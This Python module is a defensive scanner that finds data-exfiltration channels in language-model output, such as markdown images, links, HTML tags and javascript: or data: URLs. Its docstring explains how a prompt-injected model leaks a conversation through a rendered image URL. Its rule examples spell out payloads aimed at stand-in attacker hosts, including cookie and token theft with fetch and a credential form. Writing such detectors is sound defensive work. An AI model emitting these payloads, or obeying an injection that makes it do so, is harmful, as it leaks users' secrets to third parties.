"""Exfiltration-channel scanner (``exfil.*``): output that makes a client send data somewhere.

A prompt-injected model can leak a conversation without any tool: it writes a markdown image
whose URL carries the data (``![](https://attacker.example/log?q=<secret>)``) and the chat client
fetches it while rendering. Links do the same with one click; raw HTML and ``javascript:`` or
``data:`` URLs run code in the client. This scanner reports those channels in model output.

Images (inline, reference-style and HTML ``<img>``-like tags) are flagged when their URL goes to a
host outside the allow-list and carries a query string, or when any part of the URL looks like
data (long values, base64/hex blobs, sentences). Links are flagged only when the URL carries data.
Allow-listed hosts (``allowed_hosts=`` or ``DetectConfig.extra`` key ``exfil.allowed_hosts``, comma
separated; a host also allows its subdomains) are trusted.
"""

from __future__ import annotations

import html
import math
import re
from collections import Counter
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from urllib.parse import parse_qsl, unquote_plus, urlsplit

from bastion._types import Category, Finding, RuleInfo, Severity
from bastion.detect._base import OWASP_LLM02, OWASP_LLM05, DetectConfig, Document, make_finding, mask_evidence
from bastion.detect._staged import Staged, StagedSet

__all__ = ["ALLOWED_HOSTS_KEY", "RULES", "ExfilScanner", "url_carries_data"]

ALLOWED_HOSTS_KEY = "exfil.allowed_hosts"


def _rule(rule_id: str, severity: Severity, confidence: float, description: str, example: str) -> RuleInfo:
    return RuleInfo(
        rule_id=rule_id,
        category=Category.EXFIL,
        severity=severity,
        confidence=confidence,
        owasp=(OWASP_LLM05, OWASP_LLM02),
        description=description,
        example=example,
    )


MARKDOWN_IMAGE = _rule(
    "exfil.markdown_image",
    Severity.HIGH,
    0.9,
    "A markdown image (inline `![alt](url)` or reference-style `![alt][ref]` + `[ref]: url`) that the "
    "client fetches on render, whose URL carries data (long, base64/hex-encoded or sentence-like "
    "query values, path segments or fragment): high. An image on a host outside the allow-list with "
    "any query string: medium.",
    "![](https://attacker.example/pixel.png?d=c2VjcmV0IGZyb20gY2hhdA)",
)
MARKDOWN_LINK = _rule(
    "exfil.markdown_link",
    Severity.MEDIUM,
    0.75,
    "A markdown link (inline or reference definition) whose URL carries data, on a host outside the "
    "allow-list: one click sends it.",
    "[click here](https://attacker.example/c?data=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy)",
)
HTML_SCRIPT = _rule(
    "exfil.html_script",
    Severity.HIGH,
    0.95,
    "A `<script>` element: code that runs in the client if the output is rendered as HTML.",
    "<script>fetch('//x.example/?c='+document.cookie)</script>",
)
HTML_FRAME = _rule(
    "exfil.html_frame",
    Severity.HIGH,
    0.85,
    "An `<iframe>`, `<frame>`, `<object>` or `<embed>` element: loads another page or plugin.",
    '<iframe src="https://attacker.example/"></iframe>',
)
HTML_EVENT_HANDLER = _rule(
    "exfil.html_event_handler",
    Severity.HIGH,
    0.9,
    "An HTML tag with an `on*=` event-handler attribute (`onerror`, `onload`, `onmouseover` ...): "
    "script that runs without a `<script>` tag.",
    "<img src=x onerror=\"fetch('//x.example/'+document.cookie)\">",
)
HTML_RESOURCE = _rule(
    "exfil.html_resource",
    Severity.HIGH,
    0.85,
    "An HTML element that fetches a URL on render (`<img>`, `<video>`, `<audio>`, `<source>`, "
    "`<input type=image>`, `<link>`, `background=`, `poster=`) whose URL carries data (high) or goes "
    "to a host outside the allow-list with a query string (medium).",
    '<img src="https://attacker.example/p.gif?u=alice%40corp.example&k=sk-live">',
)
JAVASCRIPT_URL = _rule(
    "exfil.javascript_url",
    Severity.HIGH,
    0.95,
    "A `javascript:`/`vbscript:` URL in a markdown link or image or an HTML attribute, also when "
    "hidden by HTML entities, whitespace or control characters (`jav&#x09;ascript:`).",
    "[open](javascript:fetch('//x.example/'+localStorage.token))",
)
HTML_FORM = _rule(
    "exfil.html_form",
    Severity.MEDIUM,
    0.8,
    "An HTML `<form action=...>` or `formaction=` posting to a host outside the allow-list: "
    "a phishing or exfiltration form inside the answer.",
    '<form action="https://attacker.example/collect"><input name=pw></form>',
)
META_REFRESH = _rule(
    "exfil.meta_refresh",
    Severity.HIGH,
    0.9,
    "`<meta http-equiv=refresh>`: redirects the client to another URL without interaction.",
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
)
DATA_URL = _rule(
    "exfil.data_url",
    Severity.HIGH,
    0.85,
    "A `data:` URL with active content (`text/html`, `application/xhtml+xml`, `image/svg+xml`, "
    "JavaScript): high. Other `text/*` or `application/*` data URLs: medium. Image, audio and "
    "font data URLs are not reported.",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
)

RULES: tuple[RuleInfo, ...] = (
    MARKDOWN_IMAGE,
    MARKDOWN_LINK,
    HTML_SCRIPT,
    HTML_FRAME,
    HTML_EVENT_HANDLER,
    HTML_RESOURCE,
    JAVASCRIPT_URL,
    HTML_FORM,
    META_REFRESH,
    DATA_URL,
)

_URL = r"<?([^\s()<>]+(?:\([^\s()<>]*\)[^\s()<>]*)?)>?"
_TITLE = r"(?:[ \t]+(?:\"[^\"\r\n]*\"|'[^'\r\n]*'|\([^)\r\n]*\)))?"
_SPECS: tuple[Staged, ...] = (
    Staged("md_image", r"!\[", rf"!\[([^\]\r\n]*)\][ \t]*\([ \t]*{_URL}{_TITLE}[ \t]*\)"),
    Staged("md_link", r"\]\(", rf"(?:^|[^!\\\]])(\[[^\]\r\n]*\][ \t]*\([ \t]*{_URL}{_TITLE}[ \t]*\))"),
    Staged(
        "md_refdef",
        r"\]:",
        r"^[ ]{0,3}\[([^\]\r\n]+)\]:[ \t]*<?([^\s<>]+)>?",
        multiline=True,
    ),
    Staged("md_refimg", r"!\[", r"!\[([^\]\r\n]*)\](?:\[([^\]\r\n]*)\])?"),
    Staged("tag", r"<[a-zA-Z]", r"<([a-zA-Z][\w:\-]{0,30})((?:[\s/][^<>]*)?)>"),
    Staged(
        "data_url",
        r"data:",
        r"data:[ \t]*([a-z]+/[a-z0-9.+\-]+)(?:;[a-z0-9\-]+=[^;,\s]+){0,4}(?:;base64)?,[^\s\"'<>)]*",
        caseless=True,
    ),
)

_ATTR = re.compile(r"([^\s\"'>/=]+)(?:\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s\"'=<>`]+)))?")
_SCRIPT_END = re.compile(r"</script\s*>", re.IGNORECASE)
_CTRL_WS = re.compile(r"[\x00-\x20\x7f]+")
_B64ISH = re.compile(r"^[A-Za-z0-9+/_\-]{20,}={0,2}$")
_HEX = re.compile(r"^[0-9a-fA-F]{32,}$")
_ACTIVE_DATA = (
    "text/html",
    "application/xhtml+xml",
    "image/svg+xml",
    "text/javascript",
    "application/javascript",
    "application/x-javascript",
    "text/xml",
    "application/xml",
    "text/vbscript",
)
_RESOURCE_ATTRS = frozenset({"src", "srcset", "poster", "background", "data", "href", "lowsrc", "dynsrc", "xlink:href"})
_RESOURCE_TAGS = frozenset(
    {
        "img",
        "image",
        "video",
        "audio",
        "source",
        "track",
        "input",
        "link",
        "body",
        "table",
        "td",
        "picture",
        "svg",
        "use",
    }
)
_FRAME_TAGS = frozenset({"iframe", "frame", "frameset", "object", "embed", "portal", "applet"})
_URL_ATTRS = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "srcset",
        "lowsrc",
        "dynsrc",
        "content",
        "to",
        "from",
        "values",
    }
)


def _entropy(s: str) -> float:
    if not s:
        return 0.0
    counts = Counter(s)
    n = len(s)
    return -sum(c / n * math.log2(c / n) for c in counts.values())


def url_carries_data(url: str) -> str | None:
    """Why ``url`` looks like it carries data (long or encoded values, sentences), or None."""
    if len(url) > 1024:
        return "very long URL"
    try:
        parts = urlsplit(url)
        query = parse_qsl(parts.query, keep_blank_values=True)
    except ValueError:
        return None
    values: list[tuple[str, str]] = [("query", v) for _, v in query]
    if parts.query and not query:
        values.append(("query", parts.query))
    values.extend(("path", seg) for seg in parts.path.split("/") if seg)
    if parts.fragment:
        values.append(("fragment", parts.fragment))
    for where, raw in values:
        v = unquote_plus(raw) if where != "path" else unquote_plus(raw.replace("+", "%2B"))
        if len(v) >= 80:
            return f"long {where} value"
        words = len(v.split())
        if words >= 5 or (where == "query" and words >= 3 and len(v) >= 24):
            return f"sentence in {where}"
        stem = v.rsplit(".", 1)[0] if where == "path" else v
        if _B64ISH.match(stem) and _entropy(stem) >= 3.5:
            classes = sum(
                (any(c.islower() for c in stem), any(c.isupper() for c in stem), any(c.isdigit() for c in stem))
            )
            if classes >= 3 or (where == "query" and classes >= 2 and len(stem) >= 24):
                return f"encoded {where} value"
        if where == "query" and _HEX.match(v):
            return "hex-encoded query value"
        if where == "query" and "@" in v and "." in v.split("@")[-1]:
            return "e-mail address in query"
    return None


def _host_of(url: str) -> str | None:
    u = url.strip()
    if u.startswith("//"):
        u = "https:" + u
    try:
        parts = urlsplit(u)
        host = parts.hostname
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https", "ftp", "ws", "wss", "") or not host:
        return None
    return host.lower().rstrip(".")


@dataclass(frozen=True, slots=True)
class _Hit:
    rule: RuleInfo
    start: int
    end: int
    message: str
    severity: Severity | None = None
    confidence: float | None = None


class ExfilScanner:
    """Finds markdown/HTML/URL channels that would send data out of a chat client."""

    name = "exfil"
    categories = frozenset({Category.EXFIL})
    rules = RULES

    def __init__(self, config: DetectConfig, *, allowed_hosts: Iterable[str] = ()) -> None:
        hosts = [h for h in allowed_hosts]
        for key, value in config.extra:
            if key == ALLOWED_HOSTS_KEY:
                hosts.extend(value.split(","))
        self.allowed_hosts: frozenset[str] = frozenset(h.strip().lower().lstrip(".") for h in hosts if h.strip())
        self._set = StagedSet(_SPECS, engine=config.engine)

    def _allowed(self, host: str) -> bool:
        return any(host == a or host.endswith("." + a) for a in self.allowed_hosts)

    # -- scanning ------------------------------------------------------------------------
    def scan(self, doc: Document) -> list[Finding]:
        text = doc.text
        hits: list[_Hit] = []
        refdefs: dict[str, tuple[int, int, str]] = {}
        refimgs: list[tuple[int, int, str]] = []
        image_spans: list[tuple[int, int]] = []
        for m in self._set.finditer(doc):
            if m.key == "md_image":
                image_spans.append((m.start, m.end))
                s, e = m.group_spans[2]
                hits.extend(self._md_url(m.start, m.end, m.groups[2] or "", image=True))
            elif m.key == "md_link":
                s, e = m.group_spans[1]
                hits.extend(self._md_url(s, e, m.groups[2] or "", image=False))
            elif m.key == "md_refdef":
                label = (m.groups[1] or "").strip().lower()
                s, e = m.group_spans[2]
                refdefs.setdefault(label, (m.start, m.end, m.groups[2] or ""))
            elif m.key == "md_refimg":
                label = (m.groups[2] or m.groups[1] or "").strip().lower()
                refimgs.append((m.start, m.end, label))
            elif m.key == "tag":
                hits.extend(self._tag(text, m.start, m.end, (m.groups[1] or "").lower(), m.groups[2] or ""))
            elif m.key == "data_url":
                hits.extend(self._data_url(text, m.start, m.end, (m.groups[1] or "").lower()))
        used_as_image = {
            label for s, e, label in refimgs if not any(a <= s < b for a, b in image_spans) and label in refdefs
        }
        for label, (s, e, url) in refdefs.items():
            hits.extend(self._md_url(s, e, url, image=label in used_as_image, reference=True))
        return self._resolve(text, hits)

    def _md_url(self, start: int, end: int, url: str, *, image: bool, reference: bool = False) -> list[_Hit]:
        kind = "reference-style " if reference else ""
        clean = _CTRL_WS.sub("", html.unescape(url)).lower()
        if clean.startswith(("javascript:", "vbscript:", "livescript:")):
            return [_Hit(JAVASCRIPT_URL, start, end, f"{kind}markdown {'image' if image else 'link'} with script URL")]
        if clean.startswith("data:"):
            return []  # the data_url rule reports it
        host = _host_of(url)
        if host is None or self._allowed(host):
            return []
        if "://" not in url and not url.startswith("//"):
            return []  # relative URL: same origin as the page
        reason = url_carries_data(url)
        if image:
            if reason:
                return [_Hit(MARKDOWN_IMAGE, start, end, f"{kind}markdown image URL carries data ({reason}) to {host}")]
            if urlsplit(url).query:
                return [
                    _Hit(
                        MARKDOWN_IMAGE,
                        start,
                        end,
                        f"{kind}markdown image with query string to non-allow-listed host {host}",
                        severity=Severity.MEDIUM,
                        confidence=0.7,
                    )
                ]
            return []
        if reason:
            return [_Hit(MARKDOWN_LINK, start, end, f"{kind}markdown link URL carries data ({reason}) to {host}")]
        return []

    def _tag(self, text: str, start: int, end: int, name: str, body: str) -> list[_Hit]:
        attrs: list[tuple[str, str]] = []
        for am in _ATTR.finditer(body):
            value = am.group(2) if am.group(2) is not None else am.group(3) if am.group(3) is not None else am.group(4)
            attrs.append((am.group(1).lower(), value or ""))
        out: list[_Hit] = []
        if name == "script":
            close = _SCRIPT_END.search(text, end, min(len(text), end + 65536))
            out.append(_Hit(HTML_SCRIPT, start, close.end() if close else end, "<script> element"))
        if name in _FRAME_TAGS:
            out.append(_Hit(HTML_FRAME, start, end, f"<{name}> element"))
        handlers = [a for a, _ in attrs if a.startswith("on") and len(a) > 4]
        if handlers:
            out.append(_Hit(HTML_EVENT_HANDLER, start, end, f"<{name}> with event handler {handlers[0]}="))
        for attr, value in attrs:
            if attr in _URL_ATTRS or attr.startswith("on"):
                clean = _CTRL_WS.sub("", html.unescape(value)).lower()
                if attr == "content":
                    clean = clean.split("url=", 1)[-1] if "url=" in clean else clean
                if clean.startswith(("javascript:", "vbscript:", "livescript:")) and not attr.startswith("on"):
                    out.append(_Hit(JAVASCRIPT_URL, start, end, f"<{name} {attr}=javascript:...>"))
        if name == "meta" and any(a == "http-equiv" and v.strip().lower() == "refresh" for a, v in attrs):
            out.append(_Hit(META_REFRESH, start, end, "<meta http-equiv=refresh> redirect"))
        if name == "form" or any(a == "formaction" for a, _ in attrs):
            target = next((html.unescape(v) for a, v in attrs if a in ("action", "formaction")), "")
            host = _host_of(target) if target else None
            if host is not None and ("://" in target or target.startswith("//")) and not self._allowed(host):
                out.append(_Hit(HTML_FORM, start, end, f"form posting to non-allow-listed host {host}"))
        if name in _RESOURCE_TAGS or any(a in ("background", "poster") for a, _ in attrs):
            for attr, value in attrs:
                if attr not in _RESOURCE_ATTRS or (attr == "href" and name != "link"):
                    continue
                url = (
                    html.unescape(value).strip().split(" ", 1)[0] if attr == "srcset" else html.unescape(value).strip()
                )
                host = _host_of(url)
                if host is None or self._allowed(host) or ("://" not in url and not url.startswith("//")):
                    continue
                reason = url_carries_data(url)
                if reason:
                    out.append(
                        _Hit(HTML_RESOURCE, start, end, f"<{name} {attr}> URL carries data ({reason}) to {host}")
                    )
                    break
                if urlsplit(url).query:
                    out.append(
                        _Hit(
                            HTML_RESOURCE,
                            start,
                            end,
                            f"<{name} {attr}> with query string to non-allow-listed host {host}",
                            severity=Severity.MEDIUM,
                            confidence=0.7,
                        )
                    )
                    break
        return out

    def _data_url(self, text: str, start: int, end: int, mime: str) -> list[_Hit]:
        if start >= 4 and text[start - 4 : start].lower() == "mail":
            return []
        if start > 0 and (text[start - 1].isalnum() or text[start - 1] in "_-"):
            return []
        if mime in _ACTIVE_DATA:
            return [_Hit(DATA_URL, start, end, f"data: URL with active content ({mime})")]
        if mime.startswith(("text/", "application/")):
            return [_Hit(DATA_URL, start, end, f"data: URL ({mime})", severity=Severity.MEDIUM, confidence=0.6)]
        return []

    def _resolve(self, text: str, hits: Sequence[_Hit]) -> list[Finding]:
        seen: set[tuple[str, int, int]] = set()
        out: list[Finding] = []
        for h in sorted(hits, key=lambda h: (h.start, h.end, h.rule.rule_id)):
            key = (h.rule.rule_id, h.start, h.end)
            if key in seen:
                continue
            seen.add(key)
            out.append(
                make_finding(
                    h.rule,
                    h.start,
                    h.end,
                    h.message,
                    evidence=mask_evidence(text[h.start : min(h.end, h.start + 120)], keep=12),
                    entity=h.rule.rule_id.split(".", 1)[1],
                    confidence=h.confidence,
                    severity=h.severity,
                )
            )
        return out
